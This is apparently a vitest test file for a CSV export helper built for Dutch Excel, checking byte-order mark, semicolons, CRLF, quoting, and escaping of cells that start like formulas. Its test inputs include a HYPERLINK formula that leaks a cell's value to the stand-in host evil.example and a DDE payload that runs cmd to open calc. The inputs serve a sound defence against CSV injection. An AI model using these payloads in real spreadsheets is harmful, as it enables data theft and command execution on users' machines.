import { expect, test } from 'vitest'
import { csvOf } from './csv.ts'

test('the file is what Excel in the Netherlands opens by a double click: a mark for UTF-8, semicolons, CRLF', () => {
  const bytes = Buffer.from(
    csvOf([
      ['Nummer', 'Klager'],
      ['2026-0004', 'Tomasz Wiśniewski'],
    ]),
  )
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  expect(bytes.subarray(3).toString()).toBe('"Nummer";"Klager"\r\n"2026-0004";"Tomasz Wiśniewski"\r\n')
})

test.each([
  ['a separator', 'te laat; twee keer', '"te laat; twee keer"'],
  ['a quote', 'zij zei "nee"', '"zij zei ""nee"""'],
  ['a line end', 'een\ntwee', '"een\ntwee"'],
  ['nothing', '', '""'],
  ['a sign further on', 'klas 3-4 = vol', '"klas 3-4 = vol"'],
])('a cell with %s stays one cell that says the same', (_, text, cell) => {
  expect(csvOf([[text]]).slice(1)).toBe(`${cell}\r\n`)
})

test.each([
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1)',
  '+31 20 555 01 00',
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠a',
])('a cell that begins like a formula (%j) is a text', (text) => {
  expect(csvOf([[text]]).slice(1)).toBe(`"'${text.replaceAll('"', '""')}"\r\n`)
})
